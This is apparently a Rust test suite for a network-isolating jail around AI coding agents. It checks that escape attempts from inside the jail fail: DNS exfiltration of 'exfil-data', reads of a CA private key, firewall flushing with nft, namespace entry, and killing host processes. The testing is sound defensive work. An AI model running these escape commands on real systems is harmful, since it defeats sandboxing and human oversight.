//! Every escape of the threat model that applies to nsjail, tried from inside the jail while
//! boundary runs in a network namespace next to a far host: the far host's counters stay at
//! zero, and a positive control from outside the jail (same namespace as boundary) moves them.
//! As root and as an unprivileged user, and (`--nested-sandboxes`) from inside a bubblewrap
//! sandbox started in the jail the way Codex starts it.
//!
//! The jailed probes are boundary's own `__boundary-probe` (system-call level, one line each)
//! plus the real tools (`nft`, `ip`, `unshare`/`nsenter`, `kill`).

mod nsjail_common;
use boundary_jail::probe::{probe_args, ProbeResult};
use nsjail_common::*;
use std::os::unix::fs::PermissionsExt;

fn dns_query_escaped(tcp: bool) -> String {
    let mut q: Vec<u8> = vec![0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for l in ["exfil-data", "example"] {
        q.push(l.len() as u8);
        q.extend_from_slice(l.as_bytes());
    }
    q.extend_from_slice(&[0, 0, 1, 0, 1]);
    if tcp {
        let mut framed = (q.len() as u16).to_be_bytes().to_vec();
        framed.extend(q);
        q = framed;
    }
    q.iter().map(|b| format!("\\x{b:02x}")).collect()
}

/// The host process the jail tries to signal; killed when the test ends, pass or fail.
struct Victim(std::process::Child);

impl Drop for Victim {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Codex 0.171's bubblewrap arguments (seen with `strace -f -e execve codex sandbox ...`),
/// without `--unshare-net` (Codex with network access on: the nested sandbox shares the jail's
/// network, so the probes have somewhere to go) and without `--proc /proc`, which the kernel
/// refuses under the jail's masked `/proc` (Codex then runs without it, too).
const CODEX_BWRAP: &[&str] = &[
    "bwrap",
    "--as-pid-1",
    "--new-session",
    "--die-with-parent",
    "--ro-bind",
    "/",
    "/",
    "--dev",
    "/dev",
    "--unshare-user",
    "--unshare-pid",
    "--unshare-ipc",
    "--cap-drop",
    "ALL",
    "--",
];

fn escapes_stay_inside(who: As, nested: bool) {
    let far = FarHost::new().unwrap();
    let baseline = far.counters().unwrap();
    let config = config_home(who);
    // A stand-in for the Coder agent's audit socket (boundary itself may connect to it).
    let audit_path = config.path().join("audit.sock");
    let audit = std::os::unix::net::UnixListener::bind(&audit_path).unwrap();
    std::fs::set_permissions(&audit_path, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::thread::spawn(move || {
        for c in audit.incoming().flatten() {
            std::thread::spawn(move || std::io::copy(&mut &c, &mut std::io::sink()));
        }
    });
    // A host process the jail must not be able to signal.
    let mut victim = Victim(
        std::process::Command::new("sleep")
            .arg("1000")
            .spawn()
            .unwrap(),
    );
    let victim_pid = victim.0.id();
    let bin = boundary_binary().unwrap();
    let (f4, f6) = (far.far_v4.to_string(), far.far_v6.to_string());
    let ll = format!("{}%bnd0", far.far_v6_ll);
    let key = config.path().join("coder_boundary/ca-key.pem");
    let get =
        |host: &str| format!("GET / HTTP/1.1\\r\\nHost: {host}\\r\\nConnection: close\\r\\n\\r\\n");
    let probes: Vec<Vec<String>> = vec![
        vec!["tcp".into(), f4.clone(), "80".into(), get(&f4)],
        vec![
            "tcp".into(),
            f4.clone(),
            "22".into(),
            "SSH-2.0-escape\\r\\n".into(),
        ],
        vec![
            "tcp".into(),
            f6.clone(),
            "443".into(),
            get(&format!("[{f6}]")),
        ],
        vec!["tcp".into(), ll.clone(), "80".into(), get("[fe80::213:2]")],
        vec![
            "udp".into(),
            f4.clone(),
            "53".into(),
            dns_query_escaped(false),
        ],
        vec![
            "tcp".into(),
            f4.clone(),
            "53".into(),
            dns_query_escaped(true),
        ],
        vec!["udp".into(), f4.clone(), "443".into()],
        vec!["udp".into(), f4.clone(), "123".into()],
        vec!["udp".into(), f6.clone(), "443".into()],
        vec!["udp".into(), ll.clone(), "53".into()],
        vec!["icmp".into(), f4.clone()],
        vec!["icmp".into(), f6.clone()],
        vec!["raw".into()],
        vec!["netlink".into()],
        vec!["nft".into()],
        vec!["setns".into(), format!("/run/netns/{}", far.far)],
        vec!["setns".into(), format!("/run/netns/{}", far.near)],
        vec!["read".into(), key.to_string_lossy().into_owned()],
        vec!["unix".into(), audit_path.to_string_lossy().into_owned()],
        vec!["signal".into(), victim_pid.to_string()],
        vec!["procs".into(), victim_pid.to_string()],
    ];
    let probe_args = probe_args(&probes)
        .iter()
        .map(|a| {
            if a == ";" {
                "';'".to_string()
            } else {
                format!("'{a}'")
            }
        })
        .collect::<Vec<_>>()
        .join(" ");
    let script = format!(
        "echo userns=$(readlink /proc/self/ns/user)\n\
         {bin} __boundary-probe {probe_args}\n\
         nft flush ruleset 2>/dev/null; echo \"tool-nft=$?\"\n\
         ip link add bndx type veth peer name bndy 2>/dev/null; echo \"tool-iplink=$?\"\n\
         unshare -Urn nsenter --net=/run/netns/{far_ns} true 2>/dev/null; echo \"tool-nsenter=$?\"\n\
         kill -9 {victim_pid} 2>/dev/null; echo \"tool-kill=$?\"\n\
         curl -sS --max-time 10 -o /dev/null -w 'tool-curl=%{{http_code}}\\n' http://{f4}:8080/\n",
        bin = bin.display(),
        far_ns = far.far,
    );
    let (flags, script) = if nested {
        // The probes run in the nested sandbox; the jail's shell prints its own namespace first.
        let file = config.path().join("probes.sh");
        std::fs::write(&file, &script).unwrap();
        // Then, in the jail: a user namespace of the command's own holds every capability, but
        // none over the jail's network (owned by the jail's user namespace); the control shows
        // they work over a network namespace it creates itself.
        let wrapped = format!(
            "echo userns=$(readlink /proc/self/ns/user)\n{} sh {}\n\
             unshare -Ur sh -c 'nft flush ruleset 2>/dev/null; echo nested-nft=$?; \
             ip link add bndx type veth peer name bndy 2>/dev/null; echo nested-iplink=$?; \
             ip link set lo down 2>/dev/null; echo nested-lo=$?'\n\
             unshare -Urn sh -c 'ip link set lo up; echo own-netns-lo=$?'\n",
            CODEX_BWRAP.join(" "),
            file.display()
        );
        (vec!["--log-level", "error", "--nested-sandboxes"], wrapped)
    } else {
        (vec!["--log-level", "error"], script)
    };
    let prefix = ["ip", "netns", "exec", far.near.as_str()];
    let o = jailed_sh(who, config.path(), &prefix, &flags, &script);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let t = text(&o);
    let namespaces: Vec<&str> = out.lines().filter(|l| l.starts_with("userns=")).collect();
    if nested {
        assert!(
            namespaces.len() == 2 && namespaces[0] != namespaces[1],
            "the probes did not run in a nested user namespace:\n{t}"
        );
    }
    let results = ProbeResult::all(&out);
    let line = |i: usize| -> ProbeResult {
        results
            .iter()
            .find(|r| r.index == i)
            .unwrap_or_else(|| panic!("no result for probe {i}:\n{t}"))
            .clone()
    };
    let intercepted = |i: usize| {
        let l = line(i);
        assert!(
            l.word == "connected" && l.detail.contains("Request Blocked by Boundary"),
            "probe {i} not intercepted: {l}"
        );
    };
    let refused = |i: usize| {
        let l = line(i);
        assert!(l.refused(), "probe {i} was not refused: {l}");
    };
    intercepted(0);
    assert_eq!(line(1).word, "connected", "{}", line(1)); // reached the proxy, not the far host
    intercepted(2);
    // Link-local: the handshake cannot complete (replies would leave by the jail's dead-end
    // device and are dropped); either way nothing reaches the far host.
    let l3 = line(3);
    assert!(
        l3.detail.contains("Request Blocked by Boundary") || l3.refused(),
        "{l3}"
    );
    assert!(
        line(4).word == "reply" && line(4).detail.contains("\\x06\\x06\\x06\\x06"),
        "DNS not answered by the stub: {}",
        line(4)
    );
    assert!(
        line(5).detail.contains("\\x06\\x06\\x06\\x06"),
        "DNS over TCP not answered by the stub: {}",
        line(5)
    );
    for i in (6..=19).filter(|&i| i != 9) {
        refused(i);
    }
    // UDP to a link-local address on port 53 is redirected to the DNS stub like any DNS, but
    // the stub's answer to a scoped link-local source would leave by the dead-end device and is
    // dropped: the send "works" and nothing comes back; the far host's counters prove nothing
    // left.
    let l9 = line(9);
    assert!(l9.refused() || l9.detail.contains("no reply"), "{l9}");
    assert!(
        line(20).detail.contains("host_pid_visible=false"),
        "{}",
        line(20)
    );
    for tool in [
        "tool-nft=0",
        "tool-iplink=0",
        "tool-nsenter=0",
        "tool-kill=0",
    ] {
        assert!(
            !out.contains(tool),
            "{tool} succeeded inside the jail:\n{t}"
        );
    }
    assert!(out.contains("tool-curl=403"), "{t}");
    if nested {
        for line in ["nested-nft=", "nested-iplink=", "nested-lo="] {
            let got = out.lines().find(|l| l.starts_with(line));
            assert!(
                got.is_some_and(|l| l != format!("{line}0")),
                "{line} missing or succeeded from a nested user namespace:\n{t}"
            );
        }
        assert!(out.contains("own-netns-lo=0"), "control failed:\n{t}");
    }
    assert!(
        victim.0.try_wait().unwrap().is_none(),
        "the host process was killed from the jail"
    );
    drop(victim);

    // Nothing reached the far host from the jail, and the positive control from boundary's own
    // namespace (outside the jail) did.
    far.assert_nothing_escaped(baseline, &t);
}

#[test]
fn escapes_stay_inside_the_jail_as_root() {
    require_root().unwrap();
    escapes_stay_inside(As::Root, false);
}

#[test]
fn escapes_stay_inside_the_jail_as_an_unprivileged_user() {
    require_root().unwrap();
    escapes_stay_inside(As::User, false);
}

/// The same escapes from inside a bubblewrap sandbox (new user, PID, IPC and mount namespaces)
/// inside the jail, with `--nested-sandboxes`: the jail's network, seccomp rules, connect
/// supervisor and hidden files hold for the nested processes too; and a user namespace the
/// jailed command makes itself (every capability in it) still cannot change the jail's
/// network (`nft`, `ip link`), while the same commands work in a network namespace it owns.
#[test]
fn escapes_stay_inside_from_a_nested_bubblewrap_sandbox_as_an_unprivileged_user() {
    require_root().unwrap();
    escapes_stay_inside(As::User, true);
}

/// The same from a bubblewrap sandbox of a jail started by root: bubblewrap maps uid 0 (the
/// jail keeps `CAP_SETFCAP` for it), and the user namespace `unshare -Ur` makes has the host's
/// root as its root; neither reaches the jail's network, the far host or the host's processes.
#[test]
fn escapes_stay_inside_from_a_nested_bubblewrap_sandbox_as_root() {
    require_root().unwrap();
    escapes_stay_inside(As::Root, true);
}

/// Without `--nested-sandboxes` bubblewrap is refused by the jail's seccomp rules, as root and
/// as an unprivileged user.
#[test]
fn nested_sandboxes_are_off_by_default() {
    require_root().unwrap();
    for who in [As::Root, As::User] {
        let o = jailed(
            who,
            &[],
            &CODEX_BWRAP
                .iter()
                .copied()
                .chain(["true"])
                .collect::<Vec<_>>(),
        );
        let t = text(&o);
        assert!(
            !o.status.success() && t.contains("bwrap:"),
            "bwrap ran without --nested-sandboxes ({who:?}):\n{t}"
        );
    }
}

/// `--use-real-dns`: the stub relays to the resolvers of boundary's /etc/resolv.conf (here the
/// far host, whose UDP port 53 echoes), so the query does leave, as documented; without the
/// flag the same query is answered inside (the escape test above).
#[test]
fn use_real_dns_forwards_to_the_hosts_resolver() {
    require_root().unwrap();
    let far = FarHost::new().unwrap();
    far.set_near_resolv_conf(&format!("nameserver {}\n", far.far_v4))
        .unwrap();
    let config = config_home(As::Root);
    let bin = boundary_binary().unwrap();
    let script = format!(
        "{} __boundary-probe udp 192.0.2.53 53 '{}'",
        bin.display(),
        dns_query_escaped(false)
    );
    let prefix = ["ip", "netns", "exec", far.near.as_str()];
    let o = jailed_sh(
        As::Root,
        config.path(),
        &prefix,
        &["--log-level", "error", "--use-real-dns"],
        &script,
    );
    let out = String::from_utf8_lossy(&o.stdout);
    let r = ProbeResult::find(&out, 0).unwrap_or_else(|| panic!("no probe result: {}", text(&o)));
    // The far host echoes the query: the answer is the query itself, not the stub's 6.6.6.6.
    assert_eq!(r.word, "reply", "{}", text(&o));
    assert!(
        r.detail.contains("exfil-data") && !r.detail.contains("\\x06\\x06\\x06\\x06"),
        "{}",
        text(&o)
    );
    assert!(far.counters().unwrap().udp >= 1);
}
